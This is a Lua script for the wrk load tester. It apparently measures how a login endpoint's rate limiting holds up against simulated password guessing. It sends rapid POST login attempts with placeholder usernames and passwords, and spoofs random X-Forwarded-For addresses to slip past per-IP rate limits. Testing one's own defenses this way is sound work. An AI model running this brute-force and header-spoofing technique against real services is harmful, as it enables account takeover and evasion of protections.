-- wrk script: an attacker guessing passwords for unknown accounts through the login form.
-- TP_XFF set: every request from that one address (rate-limited);
-- unset: every request from a random address in 10.0.0.0/8 (never rate-limited).
local csrf_cookie = os.getenv("TP_CSRF_COOKIE")
local csrf_token = os.getenv("TP_CSRF_TOKEN")
local xff = os.getenv("TP_XFF")
local threads = {}

function setup(thread)
  thread:set("id", #threads)
  table.insert(threads, thread)
end

function init(args)
  sent = 0
  codes = {}
  math.randomseed(os.time() + id)
end

function request()
  sent = sent + 1
  local from = xff
  if from == nil or from == "" then
    from = string.format("10.%d.%d.%d", math.random(0, 255), math.random(0, 255), math.random(1, 254))
  end
  return wrk.format("POST", "/login", {
    ["Content-Type"] = "application/x-www-form-urlencoded",
    ["Cookie"] = "tp_csrf=" .. csrf_cookie,
    ["X-Forwarded-For"] = from,
  }, "csrf_token=" .. csrf_token .. "&username=victim" .. (sent % 50) .. "&password=guess" .. sent)
end

function response(status, headers, body)
  codes[status] = (codes[status] or 0) + 1
end

function done(summary, latency, requests)
  local total = {}
  for _, t in ipairs(threads) do
    for k, v in pairs(t:get("codes")) do total[k] = (total[k] or 0) + v end
  end
  local parts = {}
  for k, v in pairs(total) do table.insert(parts, k .. ":" .. v) end
  table.sort(parts)
  io.write(string.format("attacker: %.0f req/s (%s)\n",
    summary.requests / (summary.duration / 1e6), table.concat(parts, " ")))
end
